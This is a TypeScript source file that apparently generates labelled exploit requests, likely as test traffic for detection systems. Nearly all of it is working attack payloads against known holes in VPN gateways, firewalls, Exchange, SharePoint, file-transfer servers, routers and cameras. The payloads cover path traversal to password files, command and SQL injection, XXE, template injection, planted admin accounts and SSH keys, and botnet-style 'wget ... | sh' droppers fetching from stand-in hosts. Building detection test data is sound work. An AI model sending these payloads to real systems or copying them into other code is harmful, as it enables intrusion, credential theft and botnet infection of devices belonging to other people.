import type { Chance } from '../chance.ts';
import type { WholeWriter } from '../whole.ts';

const form = 'application/x-www-form-urlencoded';

/** Known holes of boxes at the edge of networks: gateways, routers, cameras, mail and file servers. */
export function writeAppliances(write: WholeWriter, chance: Chance): void {
  write.as({ class: 'advisory', technique: 'gateways and consoles of administrators' });
  write.json(
    '/mgmt/tm/util/bash',
    { command: 'run', utilCmdArgs: '-c id' },
    { authorization: 'Basic YWRtaW46', 'x-f5-auth-token': 'a' },
  );
  write.get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd');
  write.get('/oauth/idp/.well-known/openid-configuration', { host: 'a'.repeat(2400) });
  write.send('/p/u/doAuthentication.do', form, 'login');
  write.get('/vpn/../vpns/portal/scripts/newbm.pl', { nsc_user: '../../../netscaler/portal/templates/x' });
  write.send('/gwtest/formssso?event=start&target=AAAA', form, 'x');
  write.get('/api/v1/totp/user-backup-code/../../license/keys-status/%3Bid%3B');
  write.get('/api/v1/totp/user-backup-code/../../system/system-information');
  write.send(
    '/dana-ws/saml20.ws',
    'text/xml',
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/;id;"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>',
  );
  write.get('/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/');
  write.send('/ssl-vpn/hipreport.esp', form, 'user=global', {
    headers: { cookie: 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/hour/a`curl${IFS}x.oast.example`;' },
  });
  write.get('/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css', { 'x-pan-authcheck': 'off' });
  write.get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession');
  write.send('/api/v2/cmdb/system/admin/admin', 'application/json', '{"ssh-public-key1":"\\"ssh-rsa AAAA\\""}', {
    method: 'PUT',
    headers: { 'user-agent': 'Report Runner', forwarded: 'for="[127.0.0.1]:8888";by="[127.0.0.1]:8888"' },
  });
  write.get(
    '/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi',
    { cgiinfo: 'eyJ1c2VybmFtZSI6ImFkbWluIn0=' },
    'POST',
  );
  write.send('/clients/MyCRL', 'text/plain', 'aCSHELL/../../../../../../../etc/shadow');
  write.get('/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../');
  write.send(
    '/webui_wsma_https',
    'text/xml',
    '<request xmlns="urn:cisco:wsma-config"><configApply><config-data><cli-config-data-block>username x privilege 15 secret x</cli-config-data-block></config-data></configApply></request>',
  );
  write.send(
    '/%2577eb%2575i_%2577sma_Http',
    'text/xml',
    '<request correlator="exec1"><execCLI><cmd>uname -a</cmd></execCLI></request>',
  );
  write.get('/ui/vropspluginui/rest/services/uploadova', {}, 'POST');
  write.get(
    '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew()(%22id%22)%7d',
  );
  write.get('/eam/vib?id=C:%5CProgramData%5CVMware%5CvCenterServer%5Ccfg%5Cvmware-vpx%5Cvcdb.properties');
  write.send(
    '/analytics/telemetry/ph/api/hyper/send?_c=&_i=test/../../../../../../etc/cron.d/x',
    'application/json',
    '* * * * * root id',
  );
  write.json('/casa/nodes/thumbprints', ['127.0.0.1:443/admin']);
  write.get('/SetupWizard.aspx/x');
  write.get('/Orion/invalid.aspx.js?i18n.ashx=1');
  write.get('/InternalDir=/../../../../windows&InternalFile=win.ini');
  write.get('/?InternalDir=\\..\\..\\..\\..\\etc&InternalFile=passwd');
  write.as({ class: 'advisory', technique: 'mail and file servers' });
  write.get(
    '/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example',
  );
  write.get('/autodiscover/autodiscover.json?a@x.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z');
  write.get('/ecp/y.js', { cookie: 'X-BEResource=localhost~1942062522/EWS/Exchange.asmx?a=~1; X-AnonResource=true' });
  write.send(
    '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx',
    form,
    'MSOTlPn_Uri=https://x/_controltemplates/15/AclEditor.ascx&MSOTlPn_DWP=<%@ Register Tagprefix="S" Namespace="Microsoft.PerformancePoint.Scorecards" %><S:ExcelDataSet CompressedDataTable="H4sI" runat="server"/>',
    { headers: { referer: '/_layouts/SignOut.aspx' } },
  );
  write.get('/_layouts/15/spinstall0.aspx');
  write.send(
    '/autodiscover',
    'application/xml',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///opt/zimbra/conf/localconfig.xml">]><Autodiscover><Request><EMailAddress>&e;</EMailAddress></Request></Autodiscover>',
  );
  write.get('/service/proxy?target=https://x.oast.example');
  write.send(
    '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1',
    'application/zip',
    Buffer.from('504b03042e2e2f2e2e2f2e2e2f2e2e2f782e6a7370', 'hex'),
  );
  write.get('/m/?query=x%0d%0aset%20/tmp/a%200%200%203%0d%0aabc');
  write.send('/moveitisapi/moveitisapi.dll?action=m2', form, 'x', {
    headers: {
      'x-silock-transaction': 'folder_add_by_path',
      'x-silock-step1': 'session_setvars',
      'x-silock-sessvar0': "MyPkgSelfProvisionedRecips: x'); INSERT INTO activesessions VALUES('a');--",
    },
  });
  write.get('/WebInterface/function/?command=getUserList&c2f=31If', {
    cookie: 'CrushAuth=1743113839_aabbccddeeffgghhiijjkkllmmnn31If; currentAuth=31If',
    authorization: 'AWS4-HMAC-SHA256 Credential=crushadmin/',
  });
  write.get('/WebInterface/function/?command=zip&path=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&names=/a');
  write.get('/goform/../GoAnywhere/images/..;/wizard/InitialAccountSetup.xhtml');
  write.send('/goanywhere/lic/accept', form, 'bundle=rO0ABXNyABdqYXZh&x=1');
  write.send('/Autodiscover/x/VLTrader/../Synchronization', 'application/octet-stream', 'ADD', {
    headers: {
      vlsync: 'ADD;l=Ab1234-RQ0258;n=VLTrader;v=7294;a=1337;po=1337;s=True;b=False;pp=1337;path=..\\autorun\\x.txt',
    },
  });
  write.get('/documents/upload.aspx?uploadid=%40using%20System.Diagnostics%3B@(Process.Start(%22cmd%22))..%2f..%2fxi');
  write.get(
    '/owncloud/remote.php/dav/files/admin/?OC-Credential=admin&OC-Signature=0&OC-Verb=GET&OC-Expires=60&OC-Date=2026-01-01',
  );
  write.as({ class: 'advisory', technique: 'routers, cameras and stores' });
  const bot = `wget http://198.51.100.${chance.below(250)}/m.sh -O- | sh`;
  write.get(`/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(${encodeURIComponent(bot)})`);
  write.send('/HNAP1/', 'text/xml', '<?xml version="1.0"?><soap:Envelope><soap:Body/></soap:Envelope>', {
    headers: { soapaction: `"http://purenetworks.com/HNAP1/GetDeviceSettings/\`cd /tmp && ${bot}\`"` },
  });
  write.get(`/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws`, { 'user-agent': 'Hello, world' });
  write.get(
    '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.66/Mozi.m+-O+/tmp/netgear&curpath=/&currentsetting.htm=1',
  );
  write.send(
    '/GponForm/diag_Form?images/',
    form,
    'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.66/gpon80+-O+->/tmp/g;sh+/tmp/g&ipv=0',
  );
  write.send('/SDK/webLanguage', 'application/xml', '<?xml version="1.0"?><language>$(id>webLib/x)</language>', {
    method: 'PUT',
  });
  write.get('/System/configurationFile?auth=YWRtaW46MTEK');
  write.send(
    '/picsdesc.xml',
    'text/xml',
    '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewInternalClient>`cd /tmp;busybox wget 198.51.100.66/r -O-|sh`</NewInternalClient></u:AddPortMapping>',
  );
  write.send(
    '/ctrlt/DeviceUpgrade_1',
    'text/xml',
    '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.66 -l /tmp/b -r /b;sh /tmp/b)</NewStatusURL></u:Upgrade>',
    { headers: { authorization: 'Digest username="dslf-config"' } },
  );
  write.get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=');
  write.get('/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27');
  write.send('/boafrm/formSysCmd', form, 'sysCmd=id&apply=Apply');
  write.send('/goform/formSysCmd', form, 'sysCmd=telnetd+-l+/bin/sh&submit-url=/a');
  write.get('/goform/execCommand?cmdinput=asd;telnetd');
  write.get('/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/arm7;./arm7+varcron');
  write.send(
    '/cgi-bin/mainfunction.cgi',
    form,
    'action=login&keyPath=%27%0A%2fbin%2fcat${IFS}%2fetc%2fpasswd%0A%27&loginUser=a&loginPwd=a',
  );
  write.send('/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id', form, 'x');
  write.get('/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=$(id)');
  write.get('/apply_sec.cgi?html_response_page=a&action=ping_test&ping_ipaddr=127.0.0.1%0aid');
  write.get('/cgi-bin/config.exp');
  write.get('/cgi-bin/;id');
  write.send('/dnslookup.cgi', form, 'host_name=www.x.example;+telnetd&lookup=Lookup');
  write.send('/api/v1/pods;id', 'application/json', '{}');
  write.send(
    '/cgi-bin/ViewLog.asp',
    form,
    'remote_submit_Flag=1&remote_host=%3bcd+/tmp;wget+http://198.51.100.66/z+-O+z;sh+z%3b%23&remoteSubmit=Save',
  );
  write.get('/language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}http://198.51.100.66/l;sh${IFS}l&>r&&tar${IFS}/string.js');
  write.as({ class: 'advisory', technique: 'web servers themselves' });
  write.get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', {}, 'POST');
  write.send('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh', 'text/plain', 'echo;id');
  write.get('/icons/.%%32%65/.%%32%65/etc/passwd');
  write.get('/x?unix:AAAAAAAAAAAA|http://127.0.0.1:8080/');
  write.get('/a%3fb.php/..%3f/usr/share/wordpress/wp-config.php');
  write.send('/x.jsp/', 'text/plain', '<% Runtime.getRuntime().exec("id"); %>', { method: 'PUT' });
  write.send('/x.session', 'application/octet-stream', Buffer.from('aced0005737200', 'hex'), {
    method: 'PUT',
    headers: { 'content-range': 'bytes 0-6/100' },
  });
  write.get('/', { range: 'bytes=0-18446744073709551615' });
  write.get('/a.php%0a', { 'x-path': '/a?a=\n'.replace('\n', '%0a') });
  write.get('/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', {}, 'POST');
  write.get('/static../.git/config');
  write.get('/assets../app/settings.py');
  write.get('/%5c%5c198.51.100.7%5cshare/x', { 'user-agentt': 'zerodiumsystem("id");' });
}
